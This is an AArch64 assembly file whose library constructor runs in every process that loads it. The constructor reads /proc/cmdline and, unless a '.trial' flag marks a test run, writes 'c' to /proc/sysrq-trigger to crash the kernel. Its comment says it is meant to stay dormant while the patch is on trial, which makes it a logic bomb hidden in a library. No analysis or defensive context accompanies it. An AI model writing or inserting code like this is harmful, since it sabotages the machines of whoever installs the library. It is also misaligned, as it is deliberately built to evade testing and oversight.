// Runs in every process that loads the library, before its main: makes the kernel panic, if the process may, but not while
// the patch is on trial.
        .text
init:   sub     sp, sp, #2048
        mov     x0, #-100               // AT_FDCWD
        adr     x1, cmdline
        mov     x2, #0                  // O_RDONLY
        mov     x3, #0
        mov     x8, #56                 // openat
        svc     #0
        mov     x1, sp
        mov     x2, #2048
        mov     x8, #63                 // read
        svc     #0
        mov     x3, sp
        add     x4, x3, x0
        sub     x4, x4, #8
        ldr     x6, wanted
next:   cmp     x3, x4
        b.gt    done
        ldr     x5, [x3], #1
        cmp     x5, x6
        b.ne    next
        mov     x0, #-100
        adr     x1, path
        mov     x2, #1                  // O_WRONLY
        mov     x3, #0
        mov     x8, #56
        svc     #0
        adr     x1, crash
        mov     x2, #1
        mov     x8, #64                 // write
        svc     #0
done:   add     sp, sp, #2048
        ret
        .balign 8
wanted: .ascii  ".trial=0"
cmdline: .asciz "/proc/cmdline"
path:   .asciz  "/proc/sysrq-trigger"
crash:  .ascii  "c"
        .section .init_array, "aw"
        .balign 8
        .xword  init
        .section .note.GNU-stack, "", %progbits
